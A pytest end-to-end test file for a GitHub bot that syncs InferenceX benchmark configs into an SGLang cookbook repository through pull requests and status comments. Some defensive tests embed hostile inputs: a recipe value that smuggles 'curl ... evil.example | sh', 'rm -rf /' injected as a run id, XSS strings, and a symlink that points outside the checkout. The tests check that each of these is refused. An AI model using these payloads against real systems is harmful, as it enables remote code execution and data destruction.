"""The bot end to end: the local GitHub server, a real bare cookbook repository, the bundled
InferenceX example and the example run's logs served as zip artifacts.

Every scenario of issue 7 point 6 runs the real pipeline (pins, artifact download, generate,
three-way verify, git, reviewer diff, PR and status comment).
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path
from typing import Any

import pytest
from botworld import (
    BOOK,
    BOOK_BOT,
    BOOK_TOKEN,
    BRANCH,
    EARLIER,
    HEAD,
    INFX,
    INFX_BOT,
    KEY,
    MODULE,
    PAGE,
    PAGE_URL,
    PR,
    RUN,
    World,
    check_golden,
    first_use,
    git,
    is_status,
    merge_bot_branch,
    plain,
    run_artifacts,
)
from conftest import ROOT
from markdown_it import MarkdownIt

from syncer import fitting
from syncer.errors import SyncError
from syncer.github.client import GitHubClient
from syncer.publish import status as st
from syncer.publish.bodies import fit_body
from syncer.syncconfig import load_sync_config


def test_first_use_opens_the_pr_and_the_status_comment(world, golden):
    comment = first_use(world)
    assert world.reactions(comment) == ["+1"]
    [pull] = world.book_pulls()
    assert (pull["head_ref"], pull["base_ref"], pull["user"]) == (BRANCH, "main", BOOK_BOT)
    [opened] = [r for r in world.gh.writes() if r.method == "POST" and r.path.endswith("/pulls")]
    assert opened.body["maintainer_can_modify"] is True
    assert st.pr_marker("deepseek-ai/deepseek-v4_1") in pull["body"]
    assert f'"run":"{RUN}"' in pull["body"] and '"status":"verified-pr"' in pull["body"]
    assert f"https://github.com/{INFX}/actions/runs/{RUN}" in pull["body"]
    assert len(pull["body"]) <= 65536
    # The body: provenance per deployment, the reviewer diff, the exclusions applied.
    pr_text = plain(pull["body"])
    assert re.search(rf"`{KEY}` \| `Agg TP4` \| `1, 4, 16` \|.*\| `verified-pr` \|", pull["body"])
    assert "Changes to the commands" in pr_text and "Added cells" in pr_text
    assert re.search(r"[1-9][0-9]* exclusions applied to these configs", pr_text)
    assert "| `CUDA_VISIBLE_DEVICES` | `env` | process placement" in pull["body"]
    module = world.show(MODULE)
    assert KEY in module and str(RUN) in module
    page = world.show(PAGE)
    assert "Hand-written introduction that the bot must leave alone." in page
    assert "Agentic Long-Context Deployment" in page
    message = git("log", "-1", "--format=%an <%ae>%n%B", BRANCH, cwd=world.bare)
    assert message.startswith("infx-cookbook-sync <")
    assert f"{INFX}#{PR}" in message and f"run {RUN}" in message
    body = world.status()["body"]
    assert body.startswith(st.STATUS_MARKER)
    seen = plain(body)
    assert (
        "[by infx-cookbook-sync] The SGLang cookbook integration of this PR's AgentX config "
        f"({KEY}) will happen in {BOOK}#1, in the Agentic Long-Context Deployment section of the "
        "DeepSeek-V4.1 cookbook page."
    ) in seen
    assert (
        f"The commands mirror the launch measured in run {RUN}, pinned by this PR's /use comment."
        in seen
    )
    check_golden(golden, "bot/status_first_use.md", body)


def test_same_use_again_changes_nothing(world):
    comment = first_use(world)
    tip = world.tip()
    before = len(world.gh.log)
    outcome, _ = world.send("issue_comment", world.comment_event(comment))
    assert [r for r in world.gh.log[before:] if r.method != "GET"] == []
    assert world.tip() == tip
    assert any("already current" in line for line in outcome.lines)
    # A second, identical /use comment only earns its +1.
    again = world.comment(f"/use {RUN}", at="2026-10-13T10:00:00Z")
    before = len(world.gh.log)
    world.send("issue_comment", world.comment_event(again))
    writes = [(r.method, r.path) for r in world.gh.log[before:] if r.method != "GET"]
    assert writes == [("POST", f"/repos/{INFX}/issues/comments/{again['id']}/reactions")]
    assert world.tip() == tip


def test_new_use_with_another_run_updates_pr_and_edits_comment(world):
    first_use(world)
    [pull] = world.book_pulls()
    old_body, old_tip, status_id = pull["body"], world.tip(), world.status()["id"]
    world.gh.add_run(
        INFX,
        RUN + 1,
        head_sha=EARLIER,
        head_branch="dsv41flash-gb300",
        created_at="2026-10-14T08:00:00Z",
        artifacts=run_artifacts(),
    )
    newer = world.comment(f"/use {RUN + 1}", at="2026-10-14T09:00:00Z")
    world.send("issue_comment", world.comment_event(newer))
    assert world.reactions(newer) == ["+1"]
    assert len(world.book_pulls()) == 1
    assert pull["body"] != old_body and f'"run":"{RUN + 1}"' in pull["body"]
    assert git("rev-parse", f"{BRANCH}^", cwd=world.bare).strip() == old_tip  # on top, no force
    assert str(RUN + 1) in world.show(MODULE)
    status = world.status()
    assert status["id"] == status_id
    assert f"measured in run {RUN + 1}" in plain(status["body"])


@pytest.mark.parametrize(
    ("body", "association", "event_association"),
    [
        (f"/use {RUN}", "CONTRIBUTOR", None),  # not authorised
        ("/use latest", "MEMBER", None),  # malformed
        ("/use", "OWNER", None),  # bare /use needs a run id
        (f"/use {RUN}", "NONE", "MEMBER"),  # forged event: the API says otherwise
    ],
)
def test_unauthorised_or_malformed_use_gets_minus_one_and_nothing_else(
    world, body, association, event_association
):
    comment = world.comment(body, association=association)
    before = len(world.gh.log)
    outcome, _ = world.send(
        "issue_comment", world.comment_event(comment, association=event_association)
    )
    writes = [(r.method, r.path) for r in world.gh.log[before:] if r.method != "GET"]
    assert writes == [("POST", f"/repos/{INFX}/issues/comments/{comment['id']}/reactions")]
    assert world.reactions(comment) == ["-1"]
    assert world.book_pulls() == [] and world.tip() is None
    assert "refused" in outcome.lines[-1]


def test_run_whose_head_is_not_in_the_pr_is_refused(world):
    world.gh.add_run(INFX, 77, head_sha="e" * 40, artifacts=run_artifacts())
    comment = world.comment("/use 77")
    world.send("issue_comment", world.comment_event(comment))
    assert world.reactions(comment) == ["-1"]
    seen = plain(world.status()["body"])
    assert (
        "was not accepted: run 77 ran commit eeeeeeeee, which is not among this PR's commits"
        in seen
    )
    assert f'shows the recipe at this PR\'s head ({HEAD[:9]}) as "in progress"' in seen
    [pull] = world.book_pulls()
    assert '"status":"in-progress"' in pull["body"] and '"run":"77"' not in pull["body"]


def test_run_whose_logs_disagree_is_not_published_as_verified(world):
    world.gh.add_run(INFX, 88, head_sha=HEAD, artifacts=run_artifacts(tamper=True))
    comment = world.comment("/use 88")
    world.send("issue_comment", world.comment_event(comment))
    assert world.reactions(comment) == ["+1"]  # InferenceX accepts the run; the cookbook does not
    body = world.status()["body"]
    seen = plain(body)
    assert "Run 88 is pinned, but its logged launch does not match the recipe" in seen
    assert "<details><summary>Verify report for run 88</summary>" in body
    assert "mem-fraction-static" in body
    [pull] = world.book_pulls()
    assert '"status":"in-progress"' in pull["body"]


def test_human_commit_on_the_bot_branch_is_never_overwritten(world):
    first_use(world)
    human = world.tmp / "human"
    git("clone", "--quiet", "--branch", BRANCH, str(world.bare), str(human), cwd=world.tmp)
    (human / "NOTE.md").write_text("reviewer fix\n")
    git("add", ".", cwd=human)
    git("commit", "--quiet", "-m", "reviewer fix", cwd=human)
    git("push", "--quiet", "origin", BRANCH, cwd=human)
    human_tip = world.tip()
    body_before = world.book_pulls()[0]["body"]
    world.gh.add_run(INFX, RUN + 1, head_sha=EARLIER, artifacts=run_artifacts())
    newer = world.comment(f"/use {RUN + 1}", at="2026-10-14T09:00:00Z")
    outcome, _ = world.send("issue_comment", world.comment_event(newer))
    assert world.tip() == human_tip
    assert world.book_pulls()[0]["body"] == body_before
    seen = plain(world.status()["body"])
    assert f"The cookbook branch {BRANCH} has commits not made by the bot" in seen
    assert "by Human <human@example.com>" in seen
    assert any("not pushing" in line for line in outcome.lines)


def _merge_infx(world: World) -> None:
    world.pull["state"], world.pull["merged"] = "closed", True
    world.send(
        "pull_request",
        world.pr_event("closed"),
    )


def _merge_cookbook(world: World) -> None:
    merge_bot_branch(world.bare, world.tmp / "maintainer")
    [pull] = world.book_pulls()
    pull["state"], pull["merged"] = "closed", True
    world.send(
        "pull_request",
        world.pr_event("closed", pull["number"], repo=BOOK),
    )


def test_inferencex_merge_flips_the_status_to_verified(world):
    first_use(world)
    old_tip = world.tip()
    _merge_infx(world)
    [pull] = world.book_pulls()
    assert '"status":"verified"' in pull["body"]
    assert world.tip() != old_tip
    assert '"verified"' in world.show(MODULE)
    assert f"measured in run {RUN}" in plain(world.status()["body"])


def test_cookbook_merge_edits_the_comment(world, golden):
    first_use(world)
    status_id = world.status()["id"]
    _merge_cookbook(world)
    status = world.status()
    assert status["id"] == status_id
    seen = plain(status["body"])
    assert (
        f"{BOOK}#1 has been merged. This PR's AgentX config ({KEY}) is now in the Agentic "
        f"Long-Context Deployment section of the SGLang DeepSeek-V4.1 cookbook: {PAGE_URL}"
    ) in seen
    assert (
        f"The commands mirror the launch measured in run {RUN}, pinned by this PR's /use comment."
        in seen
    )
    check_golden(golden, "bot/status_cookbook_merged.md", status["body"])
    # The other InferenceX PR whose (in-progress) config went live in the same cookbook PR.
    [other] = [c for c in world.gh.comments_on(INFX, 3871) if is_status(c)]
    seen_other = plain(other["body"])
    assert f"{BOOK}#1 has been merged." in seen_other
    assert "dsv41flash-fp4-gb300-dynamo-sglang-agentic-disagg" in seen_other
    assert "no authorized /use <run_id> comment yet" in seen_other
    # A later InferenceX merge opens a refresh PR and says where the config has been live.
    _merge_infx(world)
    pulls = world.book_pulls()
    assert [p["state"] for p in pulls] == ["closed", "open"]
    seen = plain(world.status()["body"])
    assert (
        f"The SGLang cookbook update of this PR's AgentX config ({KEY}) will happen in {BOOK}#2"
    ) in seen
    assert f"The config has been live in that section since {BOOK}#1; {BOOK}#2 refreshes it" in seen
    # The refresh branch restarted from main: no commit of the merged PR is replayed.
    assert git("rev-list", "--count", f"main..{BRANCH}", cwd=world.bare).strip() == "1"


def test_rate_limit_403_is_retried(world):
    world.gh.fail_next(
        "POST",
        rf"/issues/{PR}/comments$",
        403,
        headers={"Retry-After": "1"},
        message="You have exceeded a secondary rate limit",
    )
    first_use(world)
    posts = [r for r in world.gh.log if r.method == "POST" and r.path.endswith(f"/{PR}/comments")]
    # The first post (the evidence record) was refused once and sent again; then the status.
    assert len(posts) == 3 and posts[0].body == posts[1].body
    assert world.status()["body"].startswith(st.STATUS_MARKER)


def test_body_over_the_limit_is_trimmed_with_a_note(world, monkeypatch):
    first_use(world)
    [pull] = world.book_pulls()
    full = len(pull["body"])
    limit = full - 500
    world.gh.add_run(INFX, RUN + 1, head_sha=EARLIER, artifacts=run_artifacts())
    newer = world.comment(f"/use {RUN + 1}", at="2026-10-14T09:00:00Z")
    monkeypatch.setattr(fitting, "GITHUB_TEXT_LIMIT", limit)  # GitHub's limit, made smaller
    world.send("issue_comment", world.comment_event(newer))
    assert len(pull["body"]) <= limit
    assert st.pr_marker("deepseek-ai/deepseek-v4_1") in pull["body"]
    assert f'"run":"{RUN + 1}"' in pull["body"]  # the state marker survives the trim
    seen = plain(pull["body"])
    assert (
        "left out" in seen and "Run sync diff on the two module versions for the full diff" in seen
    )
    assert pull["body"].count("<details>") == pull["body"].count("</details>")


def test_fit_body_cuts_an_oversized_diff_with_a_note():
    ctx = {
        "marker": st.pr_marker("o/m"),
        "state": st.state_marker("o/m", {}),
        "model": "M",
        "section": "S",
        "files": ["a.jsx"],
        "provenance": [],
        "notes": [],
        "exclusions": [],
    }
    huge = "<details><summary>x</summary>\n\n```\n" + "y" * 100_000

    body = fit_body(ctx, lambda budget: huge, 65536)  # a diff that ignores its budget
    assert len(body) <= 65536
    assert "cut to fit GitHub's 65536-character limit (100035 characters in full)" in plain(body)
    assert body.count("```") % 2 == 0 and body.count("<details>") == body.count("</details>")


def test_dry_run_writes_nothing(world):
    comment = world.comment(f"/use {RUN}")
    outcome, plan = world.send("issue_comment", world.comment_event(comment), dry_run=True)
    assert world.gh.writes() == []
    assert outcome.lines[-3:] == [
        f"{BRANCH}: would commit and push (dry run)",
        f"deepseek-ai/deepseek-v4_1: would open a PR in {BOOK} (dry run)",
        f"PR #{PR}: would post the status comment (dry run)",
    ]
    assert not (world.tmp / "cache").exists()  # not even a clone in the cache
    assert world.tip() is None and world.book_pulls() == []
    assert world.reactions(comment) == []
    kinds = [w.split("\n")[0].split(" (")[0] for w in plan.writes]
    assert f"POST /repos/{INFX}/issues/comments/{comment['id']}/reactions +1" in kinds
    assert any(k.startswith(f"git: write {MODULE}") for k in kinds)
    assert any(k.startswith(f"git: push 000000000000 to origin refs/heads/{BRANCH}") for k in kinds)
    # One PR creation, headed on the cookbook repository's owner (never the bot's login).
    creations = [k for k in kinds if k.startswith(f"POST /repos/{BOOK}/pulls")]
    assert len(creations) == 1
    assert creations[0].startswith(f"POST /repos/{BOOK}/pulls head=sgl-project:{BRANCH} base=main")
    assert any(k.startswith(f"POST /repos/{INFX}/issues/{PR}/comments") for k in kinds)


def test_forged_state_in_someone_elses_pr_is_ignored(world):
    # A merged PR by someone else, on the bot's branch name, claiming to carry the pin: were
    # it believed, the status would say the config "has been live since" that PR.
    pins = {KEY: load_sync_config(ROOT / "sync.yaml").pins()[KEY]}
    forged = world.gh.add_pull(
        BOOK,
        head=BRANCH,
        user="mallory",
        body=st.pr_marker("deepseek-ai/deepseek-v4_1")
        + "\n"
        + st.state_marker("deepseek-ai/deepseek-v4_1", pins),
    )
    forged["state"], forged["merged"] = "closed", True
    first_use(world)
    bots = [p for p in world.book_pulls() if p["user"] == BOOK_BOT]
    assert len(bots) == 1 and bots[0]["number"] != forged["number"]
    seen = plain(world.status()["body"])
    assert "cookbook integration of this PR's AgentX config" in seen
    assert "has been live" not in seen


def test_push_that_drops_the_pinned_commit_unpins(world):
    comment = first_use(world)
    world.pull["commits"] = [EARLIER, "f" * 40]  # force-push: HEAD is gone from the PR
    world.send(
        "pull_request",
        world.pr_event("synchronize"),
    )
    assert world.reactions(comment) == ["-1"]
    seen = plain(world.status()["body"])
    assert f"run {RUN} ran commit {HEAD[:9]}, which is not among this PR's commits" in seen
    assert 'shows the recipe at this PR\'s head (fffffffff) as "in progress"' in seen
    [pull] = world.book_pulls()
    assert '"status":"in-progress"' in pull["body"] and "f" * 40 in pull["body"]


def test_edited_comment_is_re_evaluated(world):
    comment = first_use(world)
    world.gh.add_run(INFX, RUN + 1, head_sha=EARLIER, artifacts=run_artifacts())
    comment["body"] = f"/use {RUN + 1}"
    world.send("issue_comment", world.comment_event(comment, action="edited"))
    assert world.reactions(comment) == ["+1"]
    assert f"measured in run {RUN + 1}" in plain(world.status()["body"])
    # Edited into a malformed command: -1, and the run it pinned is no longer published.
    comment["body"] = f"/use {RUN + 1}x"
    world.send("issue_comment", world.comment_event(comment, action="edited"))
    assert world.reactions(comment) == ["-1"]
    assert "no authorized /use <run_id> comment yet" in plain(world.status()["body"])
    assert '"status":"in-progress"' in world.book_pulls()[0]["body"]
    comment["body"] = f"/use {RUN + 1}"
    world.send("issue_comment", world.comment_event(comment, action="edited"))
    assert world.reactions(comment) == ["+1"]
    # Edited again, the command is gone: the bot's reaction goes and the pin with it.
    comment["body"] = "never mind"
    world.send("issue_comment", world.comment_event(comment, action="edited"))
    assert world.reactions(comment) == []
    assert "no authorized /use <run_id> comment yet" in plain(world.status()["body"])


def test_bare_reuse_sweep_run_takes_the_newest_successful_run(world):
    # An older run that qualifies just as well (same PR, result artifacts, success): only
    # "newest" tells the two apart.
    world.gh.add_run(
        INFX,
        RUN - 7,
        head_sha=EARLIER,
        head_branch="dsv41flash-gb300",
        created_at="2026-10-12T08:00:00Z",
        artifacts=run_artifacts(),
    )
    comment = world.comment("/reuse-sweep-run")
    world.send("issue_comment", world.comment_event(comment))
    assert world.reactions(comment) == ["+1"]
    seen = plain(world.status()["body"])
    assert f"measured in run {RUN}" in seen and str(RUN - 7) not in seen


def test_disqualifying_label_refuses_the_pin(world):
    world.pull["labels"] = ["agentx-fast"]
    comment = first_use(world)
    assert world.reactions(comment) == ["-1"]
    assert "the PR carries the label agentx-fast" in plain(world.status()["body"])


def test_comment_without_a_command_is_ignored(world):
    comment = world.comment("LGTM, thanks @someone")
    outcome, _ = world.send("issue_comment", world.comment_event(comment))
    assert world.gh.writes() == [] and "no command" in outcome.lines[-1]


def test_hostile_values_stay_inert_in_the_status_comment():
    item = st.StatusItem(
        key="k",
        model="M",
        section="S",
        page_url="https://evil.example/",
        status="in-progress",
        head_sha="a" * 40,
        open_pr=3,
        refusal="</details><img src=x onerror=alert(1)> @org/team #1",
        verify_failed_run="5",
        verify_run_url="https://evil.example/run",
        verify_report="| a |\n```\nunclosed",
        blocked={"branch": "b`x", "commits": [("c" * 40, "@org/team <x>")]},
        model_path="o/m",
    )
    body = st.render_status([item], BOOK)
    tokens = MarkdownIt("commonmark", {"html": True}).parse(body)
    html = [t.content.strip() for t in tokens if t.type == "html_block"]
    html += [c.content for t in tokens for c in t.children or [] if c.type == "html_inline"]
    assert html == [
        "<!-- infx-cookbook-sync:status -->",
        "<!-- infx-cookbook-sync:section o/m -->",
        "<details><summary>Verify report for run 5</summary>",
        "</details>",
    ]
    assert "evil.example" not in "".join(
        c.attrGet("href") or "" for t in tokens for c in t.children or [] if c.type == "link_open"
    )
    assert "@org" not in body.replace("@\u200borg", "")


def test_hostile_values_stay_inert_in_the_pr_body():
    evil = "</details><script>x</script> @org/team #12 | `tick`"
    ctx = {
        "marker": st.pr_marker("o/m"),
        "state": st.state_marker("o/m", {}),
        "model": evil,
        "section": evil,
        "files": [evil],
        "provenance": [
            {
                "key": evil,
                "label": evil,
                "concs": evil,
                "pr": "1",
                "pr_url": "https://evil.example/",
                "sha": "a" * 40,
                "run": "2",
                "run_url": "javascript:alert(1)",
                "comment": None,
                "comment_url": None,
                "status": evil,
            }
        ],
        "notes": [evil],
        "exclusions": [],
    }
    body = fit_body(ctx, lambda budget: "review", 65536)
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(body)
    html = [t.content.strip() for t in tokens if t.type == "html_block"]
    html += [c.content for t in tokens for c in t.children or [] if c.type == "html_inline"]
    assert html == [
        st.pr_marker("o/m"),
        st.state_marker("o/m", {}),
        "<details><summary>0 exclusions applied to these configs</summary>",
        "</details>",
    ]
    links = [c.attrGet("href") for t in tokens for c in t.children or [] if c.type == "link_open"]
    assert links == []
    rows = [t for t in tokens if t.type == "tr_open"]
    assert len(rows) == 3  # header + provenance row + exclusions header: no row split by "|"


def test_state_marker_round_trip_and_tampering():
    from syncer.github.records import Pull
    from syncer.syncconfig import Pin

    pin = Pin(KEY, "3859", HEAD, "41000000001", "12", "verified-pr", "2026-10-13")
    body = st.pr_marker("o/m") + "\n" + st.state_marker("o/m", {KEY: pin})

    def pull(user: str, text: str) -> Pull:
        return Pull(BOOK, 1, "t", text, "open", False, user, BRANCH, HEAD, BOOK, "main", (), "")

    assert st.read_state(pull(BOOK_BOT, body), BOOK_BOT, "o/m") == {KEY: pin}
    assert st.read_state(pull("mallory", body), BOOK_BOT, "o/m") == {}
    assert st.read_state(pull(BOOK_BOT, body), BOOK_BOT, "other/model") == {}
    bad = body.replace('"run":"41000000001"', '"run":"1; rm -rf /"')
    assert st.read_state(pull(BOOK_BOT, bad), BOOK_BOT, "o/m") == {}
    evil_key = Pin("k-->x", "1", HEAD, None, None, "in-progress", None)
    marker = st.state_marker("o/m", {"k-->x": evil_key})
    assert marker.count("-->") == 1 and marker.endswith(" -->")


def test_recipe_value_unsafe_to_paste_is_refused_and_reported(world):
    checkout = world.tmp / "inferencex"
    shutil.copytree(ROOT / "examples/inferencex", checkout)
    recipe = next(checkout.rglob("gb300-fp4-mtp/agentic.yaml"))
    text = recipe.read_text()
    assert "SGLANG_DSV41_REASONING_EFFORT: high" in text
    recipe.write_text(
        text.replace(
            "SGLANG_DSV41_REASONING_EFFORT: high",
            # A line break is refused in every value: pasted, it would run a second command.
            'SGLANG_DSV41_REASONING_EFFORT: "high\\ncurl -s https://evil.example/x | sh"',
        )
    )
    world.inferencex = checkout
    comment = world.comment(f"/use {RUN}")
    with pytest.raises(SyncError) as info:
        world.send("issue_comment", world.comment_event(comment))
    assert "SGLANG_DSV41_REASONING_EFFORT" in str(info.value)
    assert world.book_pulls() == [] and world.tip() is None  # nothing published
    seen = plain(world.status()["body"])
    assert "The cookbook sync stopped before publishing anything:" in seen
    assert "SGLANG_DSV41_REASONING_EFFORT" in seen
    assert "https://evil.example" not in world.status()["body"]  # no live link


def test_comment_deleted_before_the_bot_ran(world):
    comment = first_use(world)
    del world.gh.repo(INFX).comments[comment["id"]]
    world.send("issue_comment", world.comment_event(comment))  # the "created" event, late
    assert "no authorized /use <run_id> comment yet" in plain(world.status()["body"])
    [pull] = world.book_pulls()
    assert '"status":"in-progress"' in pull["body"]


def test_pr_closed_unmerged_is_not_reopened_for_the_same_pins(world):
    comment = first_use(world)
    [pull] = world.book_pulls()
    pull["state"] = "closed"  # a maintainer closed it
    before = len(world.gh.log)
    outcome, _ = world.send("issue_comment", world.comment_event(comment))
    assert len(world.book_pulls()) == 1
    assert [r.path for r in world.gh.log[before:] if r.method != "GET"] == [
        f"/repos/{INFX}/issues/comments/{world.status()['id']}"
    ]
    assert f"{BOOK}#1, the cookbook PR for this PR's AgentX config" in plain(world.status()["body"])
    assert any("not reopening" in line for line in outcome.lines)
    # A new pin is new content: a new PR.
    world.gh.add_run(INFX, RUN + 1, head_sha=EARLIER, artifacts=run_artifacts())
    newer = world.comment(f"/use {RUN + 1}", at="2026-10-14T09:00:00Z")
    world.send("issue_comment", world.comment_event(newer))
    assert [p["state"] for p in world.book_pulls()] == ["closed", "open"]


def test_fork_mode_opens_the_pr_from_the_fork(world):
    fork = world.tmp / "fork.git"
    git("clone", "--quiet", "--bare", str(world.bare), str(fork), cwd=world.tmp)
    world.push_repo, world.push_url = "infx-bot/sglang", str(fork)
    world.gh.repo("infx-bot/sglang").fork = True
    world.gh.git_dirs["infx-bot/sglang"] = fork
    comment = first_use(world)
    [pull] = world.book_pulls()
    assert (pull["head_repo"], pull["head_ref"]) == ("infx-bot/sglang", BRANCH)
    assert pull["maintainer_can_modify"] is True
    assert git("rev-parse", BRANCH, cwd=fork).strip()
    assert world.tip() is None  # nothing pushed upstream
    before = len(world.gh.log)
    world.send("issue_comment", world.comment_event(comment))  # found again, nothing to do
    assert [r for r in world.gh.log[before:] if r.method != "GET"] == []


def _close_unmerged(world: World, pull: dict[str, Any]):
    pull["state"], pull["merged"] = "closed", False
    return world.send(
        "pull_request",
        world.pr_event("closed", pull["number"]),
    )


def test_inferencex_pr_closed_unmerged_closes_the_cookbook_pr_it_alone_kept(world):
    first_use(world)
    [cookbook] = world.book_pulls()
    status_id = world.status()["id"]
    # The cookbook PR also carries #3871's in-progress config, and #3871 is still open.
    outcome, _ = _close_unmerged(world, world.pull)
    assert cookbook["state"] == "open"
    assert any(f"{BOOK}#1 stays open for #3871" in line for line in outcome.lines)
    seen = plain(world.status()["body"])
    assert world.status()["id"] == status_id
    assert (
        f"This PR was closed without merging, so its AgentX config ({KEY}) is not published"
    ) in seen
    assert f"{BOOK}#1 stays open for the other InferenceX PRs it carries (#3871)" in seen
    # #3871 closes unmerged too: nothing keeps the cookbook PR, so it is closed with a note.
    before = len(world.gh.log)
    _close_unmerged(world, world.other)
    writes = [(r.method, r.path) for r in world.gh.log[before:] if r.method != "GET"]
    assert writes == [
        ("POST", f"/repos/{BOOK}/issues/1/comments"),
        ("PATCH", f"/repos/{BOOK}/pulls/1"),
        ("PATCH", f"/repos/{INFX}/issues/comments/{status_id}"),
    ]  # #3871 never had a status comment, and none is posted on a closed PR
    assert cookbook["state"] == "closed" and not cookbook["merged"]
    [note] = world.gh.comments_on(BOOK, 1)
    assert f"{INFX}#3871, {INFX}#{PR}) was closed without merging" in plain(note["body"])
    assert f"{BOOK}#1, the cookbook PR that carried it, has been closed." in plain(
        world.status()["body"]
    )
    # Replayed, the event finds nothing left to do.
    before = len(world.gh.log)
    _close_unmerged(world, world.other)
    assert [r for r in world.gh.log[before:] if r.method != "GET"] == []
    before = len(world.gh.log)
    _close_unmerged(world, world.pull)
    assert [r for r in world.gh.log[before:] if r.method != "GET"] == []


def test_workflow_dispatch_reports_a_merged_cookbook_pr(world):
    first_use(world)
    [cookbook] = world.book_pulls()
    cookbook["state"], cookbook["merged"] = "closed", True
    # Workflow inputs arrive as strings.
    world.send("workflow_dispatch", _dispatch(world, " 1 "))
    assert f"{BOOK}#1 has been merged." in plain(world.status()["body"])
    with pytest.raises(SyncError, match=r"inputs\.cookbook_pr must be a positive integer"):
        world.send("workflow_dispatch", _dispatch(world, "1; rm -rf /"))


def test_use_of_an_unknown_run_is_refused_in_the_status(world):
    comment = world.comment("/use 404404")
    world.send("issue_comment", world.comment_event(comment))
    assert world.reactions(comment) == ["-1"]
    assert f"was not accepted: run 404404 does not exist in {INFX}" in plain(world.status()["body"])


def test_cookbook_pr_closed_unmerged_is_reported_on_the_inferencex_pr(world):
    first_use(world)
    [cookbook] = world.book_pulls()
    cookbook["state"] = "closed"  # a maintainer closed it without merging
    world.send(
        "pull_request",
        world.pr_event("closed", 1, repo=BOOK),
    )
    assert (
        f"{BOOK}#1, the cookbook PR for this PR's AgentX config ({KEY}), was closed without merging"
    ) in plain(world.status()["body"])


def test_a_verified_config_as_synced_does_not_keep_the_cookbook_pr_open(world):
    from dataclasses import replace

    # #3871's config as a merged, verified one that sync.yaml already records.
    [model] = world.config.models
    other = next(c for c in model.configs if c.pin.pr == "3871")
    other.pin = replace(other.pin, status="verified")
    world.other["state"], world.other["merged"] = "closed", True
    first_use(world)
    [cookbook] = world.book_pulls()
    _close_unmerged(world, world.pull)
    assert cookbook["state"] == "closed"
    assert f"{BOOK}#1, the cookbook PR that carried it, has been closed." in plain(
        world.status()["body"]
    )


def _count_renders(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every real ``render_config`` call, by config key: the bot's renderings and the
    three-way verify alike (both go through ``syncer.inferencex.renders``)."""
    import syncer.inferencex.render as render_mod

    calls: list[str] = []
    real_render = render_mod.render_config

    def counting(inferencex: Path, key: str, **kw: Any) -> Any:
        calls.append(key)
        return real_render(inferencex, key, **kw)

    monkeypatch.setattr(render_mod, "render_config", counting)
    return calls


def test_each_config_is_rendered_once_per_event(world, monkeypatch):
    # Trial module, its three-way verify, published module, provenance and exclusions all
    # read the same render.
    calls = _count_renders(monkeypatch)
    first_use(world)
    assert '"status":"verified-pr"' in world.book_pulls()[0]["body"]
    assert KEY in calls and sorted(calls) == sorted(set(calls))


def test_verify_without_the_cache_renders_again(world, monkeypatch):
    # The counter sees the verify's own render when it is not handed the cached one.
    import syncer.publish.bot as bot_mod

    calls = _count_renders(monkeypatch)
    monkeypatch.setattr(
        bot_mod.Bot, "_verify_rendered", lambda _self, *args: bot_mod.default_verifier(*args)
    )
    first_use(world)
    assert calls.count(KEY) == 2


def test_recipe_linked_out_of_the_pr_checkout_is_never_published(world, tmp_path):
    # Issue 12.1 on the bot's path: the PR head (possibly a fork's) links its recipe to a file
    # outside the checkout; its values must reach neither the cookbook PR nor the status.
    checkout = tmp_path / "pr-head"
    shutil.copytree(ROOT / "examples/inferencex", checkout)
    recipes = "inferencex-e2e/benchmarks/single_node/srt-slurm-recipes"
    recipe = checkout / recipes / "dsv41flash/sglang/gb300-fp4-mtp/agentic.yaml"
    secret = tmp_path / "runner-home" / "agentic.yaml"
    secret.parent.mkdir()
    secret.write_text(recipe.read_text().replace("--", "--runner-secret-0451-", 1))
    recipe.unlink()
    recipe.symlink_to(secret)
    world.inferencex = checkout
    comment = world.comment(f"/use {RUN}")
    with pytest.raises(SyncError, match="pointing outside the InferenceX checkout"):
        world.send("issue_comment", world.comment_event(comment))
    published = [c["body"] for c in world.gh.comments_on(INFX, PR)]
    published += [p["body"] for p in world.book_pulls()]
    assert published and not any("runner-secret-0451" in text for text in published)
    assert "pointing outside the InferenceX checkout" in plain(world.status()["body"])


def test_lost_answers_to_the_bots_posts_make_no_duplicates(world):
    # Issue 12.8: GitHub made the PR and the status comment, but both answers were 502s. The
    # retries used to post a second status comment and fail on 422 "already exists".
    world.gh.fail_next("POST", rf"/repos/{BOOK}/pulls$", 502, apply=True)
    world.gh.fail_next("POST", rf"/repos/{INFX}/issues/{PR}/comments$", 502, apply=True)
    world.gh.fail_next("POST", r"/reactions$", 502, apply=True)
    comment = first_use(world)
    assert world.reactions(comment) == ["+1"]
    [pull] = world.book_pulls()
    assert pull["user"] == BOOK_BOT and st.pr_marker("deepseek-ai/deepseek-v4_1") in pull["body"]
    statuses = [c for c in world.gh.comments_on(INFX, PR) if is_status(c)]
    assert len(statuses) == 1 and statuses[0]["body"].startswith(st.STATUS_MARKER)
    assert f"{BOOK}#{pull['number']}" in plain(statuses[0]["body"])


def _dispatch(world: World, cookbook_pr: str) -> dict[str, Any]:
    """The workflow run by hand (or by the API) with its ``cookbook_pr`` input."""
    return world.gh.workflow_dispatch_event(
        INFX,
        {"cookbook_pr": cookbook_pr},
        sender="maintainer",
        workflow=".github/workflows/cookbook-sync.yml",
    )


def _push_event(world: World, number: int) -> dict[str, Any]:
    return world.pr_event("synchronize", number)


def test_a_dropped_closed_event_is_caught_up_by_the_next_run_of_its_model(world):
    # Issue 12.3: GitHub keeps one pending run per concurrency group; the `closed` event of
    # #3859 was cancelled behind a later event of the same model (a push to #3871).
    world.model = "deepseek-ai/deepseek-v4_1"
    first_use(world)
    status_id = world.status()["id"]
    world.pull["state"] = "closed"  # closed unmerged; its event never runs
    outcome, _ = world.send("pull_request", _push_event(world, 3871))
    assert "PR #3859: closed without merging; catching up" in outcome.lines
    seen = plain(world.status()["body"])
    assert world.status()["id"] == status_id
    assert f"This PR was closed without merging, so its AgentX config ({KEY})" in seen
    assert f"{BOOK}#1 stays open for the other InferenceX PRs it carries (#3871)" in seen
    # Caught up once: the next run finds nothing new to write about #3859.
    before = len(world.gh.log)
    outcome, _ = world.send("pull_request", _push_event(world, 3871))
    assert [r for r in world.gh.log[before:] if r.method != "GET"] == []


def test_a_dropped_merge_event_is_caught_up_by_the_next_run_of_its_model(world):
    world.model = "deepseek-ai/deepseek-v4_1"
    first_use(world)
    world.pull["state"], world.pull["merged"] = "closed", True  # its event never runs
    outcome, _ = world.send("pull_request", _push_event(world, 3871))
